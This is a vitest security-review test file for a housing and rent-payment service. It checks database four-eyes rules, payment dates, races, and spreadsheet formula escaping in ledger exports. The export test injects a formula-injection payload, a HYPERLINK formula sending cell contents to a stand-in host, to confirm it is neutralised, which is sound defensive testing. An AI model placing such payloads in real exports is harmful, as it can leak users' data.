import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { TPlan } from '../../src/contracts/autonomy.js';
import type { TAddressRequest, TBudget, TRentRequest } from '../../src/contracts/housing.js';
import { randomTypedCode } from '../../src/server/platform/crypto/pseudonyms.js';
import { queryRows, type Tx } from '../../src/server/platform/db/client.js';
import { reviewKit, today } from './review-support.js';
import { FINANCE, HOUSING, TUTOR } from './support.js';

/**
 * The security review of autonomy and housing (issue 20), on money and races: four eyes held by the
 * database whatever path writes (an app bug signing in someone else's name, a requester undoing an
 * approval, a reversal by the requester), payment dates, and one approval or one exit under
 * concurrent requests (run on PostgreSQL too). Access: review.int.test.ts.
 */
const { t, ok, call, fields, system, userId, stepUp, refs, family, newUnit, host, reveal, hostedRequest } =
  reviewKit();

/** Runs `query` as the request role with `username`'s context in the autonomy service, as an app bug would. */
async function asApp(username: string, role: string, query: ReturnType<typeof sql>) {
  const id = await userId(username);
  try {
    await t.database.db.transaction(async (tx) => {
      await tx.execute(sql`select set_config('role', 'trama_app', true), set_config('trama.user_id', ${id}, true),
        set_config('trama.role', ${role}, true), set_config('trama.organisation_id', ${refs.organisationId}, true),
        set_config('trama.service_id', ${refs.serviceId}, true)`);
      const rows = await queryRows<{ id: string }>(tx as Tx, query);
      if (rows.length === 0) throw new Error('no row changed');
    });
    return null;
  } catch (error) {
    const e = error as { message?: string; cause?: { message?: string } };
    return e.cause?.message ?? e.message ?? 'refused';
  }
}

/** A rent request written as the owner, as `status`, asked by `requester`. */
async function rentRequest(requester: string, status: 'requested' | 'approved' | 'paid', decider = FINANCE) {
  const { household } = await family();
  const [budget] = await system<{ id: string }>(
    sql`insert into rent_budgets (service_id, year, funding_line, amount_cents, committed_cents, created_by)
        values (${refs.serviceId}, 2026, ${`Linea db ${randomUUID().slice(0, 8)}`}, 500000, ${status === 'requested' ? 0 : 30000},
                ${await userId(FINANCE)}) returning id`,
  );
  const decided = status !== 'requested';
  const [request] = await system<{ id: string }>(
    sql`insert into rent_requests (code, service_id, budget_id, household_id, amount_cents, period_from, period_to,
          payee_kind, payee_organisation_id, status, requested_by, approved_by, approved_at, paid_on, payment_reference, paid_by)
        values (${randomTypedCode('RS', 6)}, ${refs.serviceId}, ${budget!.id}, ${household.id}, 30000, '2026-10-01', '2026-10-31',
          'partner', ${refs.organisationId}, ${status}, ${await userId(requester)}, ${decided ? await userId(decider) : null},
          ${decided ? new Date() : null}, ${status === 'paid' ? '2026-10-05' : null}, ${status === 'paid' ? 'CRO 5' : null},
          ${status === 'paid' ? await userId(decider) : null})
        returning id`,
  );
  return { id: request!.id, budgetId: budget!.id, householdId: household.id };
}

describe('four eyes in the database, whatever path writes', () => {
  it('refuse an approval or payment signed in someone else’s name', async () => {
    const own = await rentRequest(FINANCE, 'requested');
    const housing = await userId(HOUSING);
    const forged = await asApp(
      FINANCE,
      'finance',
      sql`update rent_requests set status = 'approved', approved_by = ${housing}, approved_at = now()
           where id = ${own.id} returning id`,
    );
    expect(forged).toMatch(/decided once, by the person who signs/);
    const approved = await rentRequest(FINANCE, 'approved', HOUSING);
    const paidAs = await asApp(
      FINANCE,
      'finance',
      sql`update rent_requests set status = 'paid', paid_by = ${housing}, paid_on = current_date, payment_reference = 'X'
           where id = ${approved.id} returning id`,
    );
    expect(paidAs).toMatch(/decided once, by the person who signs/);
    // A refusal names who refused.
    expect(
      await asApp(
        FINANCE,
        'finance',
        sql`update rent_requests set status = 'refused' where id = ${own.id} returning id`,
      ),
    ).toMatch(/a refusal names who refused|decided once/);
    const [still] = await system<{ status: string }>(
      sql`select status from rent_requests where id = ${own.id}`,
    );
    expect(still!.status).toBe('requested');
  });

  it('refuse a requester withdrawing an approved request (the line keeps its reservation)', async () => {
    const approved = await rentRequest(HOUSING, 'approved');
    const withdrawn = await asApp(
      HOUSING,
      'coordinator',
      sql`update rent_requests set status = 'cancelled', approved_by = null, approved_at = null
           where id = ${approved.id} returning id`,
    );
    expect(withdrawn).toMatch(/does not go from approved to cancelled/);
    // Nor is a decided request taken back to waiting, by anyone.
    const [row] = await system<{ status: string }>(
      sql`select status from rent_requests where id = ${approved.id}`,
    );
    expect(row!.status).toBe('approved');
    await expect(
      system(sql`update rent_requests set status = 'requested', approved_by = null, approved_at = null
                  where id = ${approved.id}`),
    ).rejects.toThrow();
  });

  it('refuse a reversal, or any ledger line, by the order’s requester or not matching the order', async () => {
    const own = await rentRequest(FINANCE, 'paid', HOUSING);
    const line = (kind: string, amount: number, by: string) =>
      sql`insert into rent_ledger_entries (budget_id, request_id, household_id, kind, amount_cents, entry_on, reason, recorded_by)
          values (${own.budgetId}, ${own.id}, ${own.householdId}, ${kind}, ${amount}, current_date, 'Storno', ${by})
          returning id`;
    const finance = await userId(FINANCE);
    expect(await asApp(FINANCE, 'finance', line('reversal', -30_000, finance))).toMatch(
      /neither pays nor reverses/,
    );
    // As the owner too: a line that does not match its paid order, or for an order not paid.
    await expect(system(line('reversal', -1, await userId(HOUSING)))).rejects.toThrow();
    const waiting = await rentRequest(HOUSING, 'approved');
    await expect(
      system(sql`insert into rent_ledger_entries (budget_id, request_id, household_id, kind, amount_cents, entry_on, recorded_by)
                 values (${waiting.budgetId}, ${waiting.id}, ${waiting.householdId}, 'payment', 30000, current_date, ${finance})`),
    ).rejects.toThrow();
    const [count] = await system<{ n: number }>(
      sql`select count(*)::int as n from rent_ledger_entries where request_id in (${own.id}, ${waiting.id})`,
    );
    expect(count!.n).toBe(0);
  });
});

describe('dates of payments', () => {
  it('are never in the future: an order is marked paid, and reversed, once it happened', async () => {
    const { request } = await hostedRequest('2026-01-15');
    await ok(FINANCE, 'POST', `/api/payments/requests/${request.id}/approve`, {});
    const later = await call(FINANCE, 'POST', `/api/payments/requests/${request.id}/pay`, {
      paidOn: '2099-01-01',
      reference: 'CRO 9',
    });
    expect(later.statusCode).toBe(400);
    expect(fields(later)).toEqual(['paidOn']);
    await ok(FINANCE, 'POST', `/api/payments/requests/${request.id}/pay`, {
      paidOn: today(),
      reference: 'CRO 9',
    });
    const reversal = await call(FINANCE, 'POST', `/api/payments/requests/${request.id}/reverse`, {
      reversedOn: '2099-01-01',
      reason: 'Bonifico respinto.',
    });
    expect(fields(reversal)).toEqual(['reversedOn']);
  });
});

describe('the ledger export', () => {
  it('shows formulas typed into a funding line or a reference as text, never runs them', async () => {
    const { body } = await hostedRequest('2026-01-15');
    const line = `=HYPERLINK("http://x.example/?d="&A1,"Apri") ${randomUUID().slice(0, 6)}`;
    const evil = await ok<TBudget>(FINANCE, 'POST', '/api/payments/budgets', {
      year: 2026,
      fundingLine: line,
      amountCents: 100_000,
    });
    const request = await ok<TRentRequest>(HOUSING, 'POST', '/api/payments/requests', {
      ...body,
      budgetId: evil.id,
    });
    await ok(FINANCE, 'POST', `/api/payments/requests/${request.id}/approve`, {});
    await ok(FINANCE, 'POST', `/api/payments/requests/${request.id}/pay`, {
      paidOn: today(),
      reference: '@SUM(1+1)',
    });
    const csv = await call(FINANCE, 'GET', `/api/payments/ledger/export?format=csv&budgetId=${evil.id}`);
    const cells = csv.body.split('\r\n')[1]!.split(';');
    expect(cells[2]).toBe(`"'${line.replaceAll('"', '""')}"`);
    expect(cells[8]).toBe("'@SUM(1+1)");
    const xlsx = await call(FINANCE, 'GET', `/api/payments/ledger/export?format=xlsx&budgetId=${evil.id}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const row = book.getWorksheet('Registro')!.getRow(2);
    expect(row.getCell(3).value).toBe(`'${line}`);
    expect(row.getCell(9).value).toBe("'@SUM(1+1)");
  });
});

describe('races', () => {
  it('let one approval show the address once, however many reveals arrive at once', async () => {
    const { household } = await family();
    const unit = await newUnit();
    await host(unit.id, household.code, '2026-03-01');
    const asked = await ok<TAddressRequest>(
      'operatrice',
      'POST',
      `/api/housing/units/${unit.id}/address-requests`,
      {
        reason: 'Colloquio a domicilio',
      },
    );
    await ok(HOUSING, 'POST', `/api/housing/address-requests/${asked.id}/decision`, { approve: true });
    await stepUp('operatrice');
    await call('operatrice', 'GET', '/api/housing/address-requests');
    const answers = await Promise.all([1, 2, 3, 4].map(() => reveal('operatrice', unit.id)));
    expect(answers.map((a) => a.statusCode).sort()).toEqual([200, 404, 404, 404]);
    const [shown] = await system<{ n: number }>(
      sql`select count(*)::int as n from audit_events
           where action = 'housing.address_revealed' and record_id = ${unit.id} and actor_username = 'operatrice'`,
    );
    expect(shown!.n).toBe(1);
  });

  it('close a plan once when two exits arrive at once', async () => {
    const { sonId } = await family();
    const plan = await ok<TPlan>('operatrice', 'POST', '/api/autonomy/plans', {
      personId: sonId,
      origin: 'direct',
      tutorUserId: await userId(TUTOR),
      startedOn: '2026-01-01',
      nextReviewOn: null,
    });
    const answers = await Promise.all(
      (['autonomy_reached', 'dropped'] as const).map((reason) =>
        call('operatrice', 'POST', `/api/autonomy/plans/${plan.id}/exit`, {
          reason,
          exitOn: today(),
          note: null,
        }),
      ),
    );
    expect(answers.map((a) => a.statusCode).sort()).toEqual([200, 409]);
    const winner = answers.find((a) => a.statusCode === 200)!.json() as TPlan;
    const [row] = await system<{ exit_reason: string }>(
      sql`select exit_reason from autonomy_plans where id = ${plan.id}`,
    );
    expect(row!.exit_reason).toBe(winner.exit!.reason);
    const [events] = await system<{ n: number }>(
      sql`select count(*)::int as n from audit_events where action = 'autonomy.plan_closed' and record_id = ${plan.id}`,
    );
    expect(events!.n).toBe(1);
  });
});
